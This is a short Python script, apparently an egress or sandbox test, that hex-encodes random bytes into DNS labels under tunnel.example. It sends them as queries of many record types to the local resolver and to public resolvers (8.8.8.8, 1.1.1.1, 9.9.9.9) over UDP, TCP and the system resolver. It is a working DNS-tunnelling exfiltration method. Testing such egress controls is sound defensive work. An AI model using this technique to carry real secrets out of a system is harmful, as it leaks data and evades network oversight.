"""Carries a secret out in names: by the resolver, by questions of its own over UDP and TCP, to any resolver."""

import os, random, socket, struct, sys

secret = os.urandom(2048).hex()
labels = [secret[start:start + 60] for start in range(0, len(secret), 60)]


def question(name, kind):
    parts = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + parts + b"\0" + struct.pack(">HH", kind, 1)


asked = 0
for label in labels:
    name = f"{label}.tunnel.example"
    for kind in 1, 28, 16, 15, 33, 5, 10, 65:
        for server in "127.0.0.1", "8.8.8.8", "1.1.1.1":
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
                link.settimeout(0.01)
                try:
                    link.sendto(question(name, kind), (server, 53))
                    asked += 1
                    link.recv(512)
                except OSError:
                    pass
for label in labels[:20]:
    message = question(f"{label}.tunnel.example", 16)
    try:
        with socket.create_connection(("9.9.9.9", 53), timeout=0.5) as link:
            link.sendall(struct.pack(">H", len(message)) + message)
            asked += 1
            link.recv(512)
    except OSError:
        pass
for label in labels[:10]:
    try:
        socket.getaddrinfo(f"{label}.tunnel.example", 443)
    except OSError:
        pass
    asked += 1
print("asked", asked)
